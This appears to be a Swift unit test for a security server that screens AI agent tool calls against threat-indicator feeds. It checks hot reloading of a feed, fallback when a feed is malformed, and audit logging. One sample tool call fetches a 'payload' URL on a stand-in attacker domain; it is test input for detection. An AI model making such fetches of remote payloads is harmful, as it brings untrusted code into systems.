import BulwarkCore
import Foundation
import Testing
@testable import BulwarkServer

@Suite struct ThreatFeedTests {
    @Test func aChangedFeedIsReloadedWithoutARestart() async throws {
        let feed = FileManager.default.temporaryDirectory.appendingPathComponent("feed-\(UUID().uuidString).txt")
        try "domain: other.example\n".write(to: feed, atomically: true, encoding: .utf8)
        let server = try await TestServer.start {
            $0.indicatorFeeds = [feed.path]
            $0.feedReloadInterval = 0.1
        }
        let call = #"{"tool": "fetch", "arguments": {"url": "https://dl.evil.example/payload"}}"#
        #expect(!(try await server.inspect(call).body.contains("threat.domain")))
        try "domain: evil.example  # campaign X\n".write(to: feed, atomically: true, encoding: .utf8)
        var matched = false
        for _ in 0..<50 where !matched {
            try await Task.sleep(for: .milliseconds(100))
            matched = try await server.inspect(call).body.contains("threat.domain")
        }
        #expect(matched, "the new indicator is used within a few reload intervals")
        // A broken feed keeps the indicators in force and is audited.
        try "domian: typo.example\n".write(to: feed, atomically: true, encoding: .utf8)
        try await Task.sleep(for: .milliseconds(500))
        #expect(try await server.inspect(call).body.contains("threat.domain"))
        let audit = try await server.request("GET", "/v1/audit", admin: true).body
        #expect(audit.contains("indicators_reloaded") && audit.contains("indicators_reload_failed"))
    }
}
